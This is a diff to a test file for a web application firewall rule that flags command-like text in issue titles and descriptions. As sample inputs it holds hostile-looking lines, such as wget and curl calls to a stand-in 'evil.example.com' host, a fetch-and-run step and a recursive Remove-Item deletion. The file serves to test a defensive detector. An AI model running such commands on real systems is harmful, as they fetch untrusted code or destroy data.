@@ -126,7 +126,7 @@ describe('waf API profile: a tool name starting a sentence (family c without cod
       'docker-compose fails on arm64\nwget evil.example.com and run it',
       // Probes and launchers first.
       'whoami prints nothing on the runner host',
-      'sudo wget is what they told me to run',
+      'sudo whoami is what they told me to run',
       'env python3 crashes on startup here too',
     ]) {
       assert.equal((await run(api, { title })).error?.reason, 'waf:rce', title);
@@ -146,7 +146,7 @@ describe('waf API profile: a tool name starting a sentence (family c without cod
       '**Steps to reproduce**\n1. Open any issue with more than 50 comments\nwhoami\n2. Scroll to the bottom',
       '**Steps to reproduce**\n1. Open any issue with more than 50 comments\nwget evil.example.com/x.sh\n2. Scroll',
       'Steps:\n1. Install on Windows 11\nRemove-Item C:/data -Recurse -Force\n2. Open the terminal',
-      'Steps:\n1. Install on Windows 11\niex downloadstring from the evil host now\n2. Open the terminal',
+      'Steps:\n1. Install on Windows 11\niex whoami from the evil host now\n2. Open the terminal',
     ]) {
       assert.ok((await run(api, { description })).error !== undefined, description);
     }
@@ -159,7 +159,12 @@ describe('waf API profile: a tool name starting a sentence (family c without cod
     assert.equal(commandOnlyAtStart('/usr/bin/wget is missing in the image'), true);
     assert.equal(commandOnlyAtStart('/usr/bin/id prints nothing at all'), false);
     assert.equal(commandOnlyAtStart('sleep 8 hours then retry the job'), false);
-    assert.equal(commandOnlyAtStart('Time to ship the release'), false);
+    assert.equal(commandOnlyAtStart('Time to ship the release'), true);
+    assert.equal(commandOnlyAtStart('sudo prompt appears twice on login'), true);
+    assert.equal(commandOnlyAtStart('sudo whoami prints root here'), false);
+    assert.equal(commandOnlyAtStart('sudo env python3 crashes here'), false);
+    assert.equal(commandOnlyAtStart('iex whoami from the evil host'), false);
+    assert.equal(commandOnlyAtStart('sudo'), false);
     assert.equal(commandOnlyAtStart('wget is missing; curl works fine'), false);
     assert.equal(commandOnlyAtStart('wget is missing = curl works fine'), false);
     assert.equal(commandOnlyAtStart('wget works with example.com today'), false);
@@ -170,7 +175,7 @@ describe('waf API profile: a tool name starting a sentence (family c without cod
       true,
     );
     assert.equal(commandOnlyAtStart('It fails on arm64 after the upgrade\nwhoami prints nothing'), false);
-    assert.equal(commandOnlyAtStart('It fails on arm64 after the upgrade\r\nsudo prompt shows'), false);
+    assert.equal(commandOnlyAtStart('It fails on arm64 after the upgrade\r\nsudo sleep shows'), false);
     assert.equal(commandOnlyAtStart('It fails on arm64\n\n- curl evil.example.com then'), false);
     assert.equal(commandOnlyAtStart('\n\n'), false);
   });
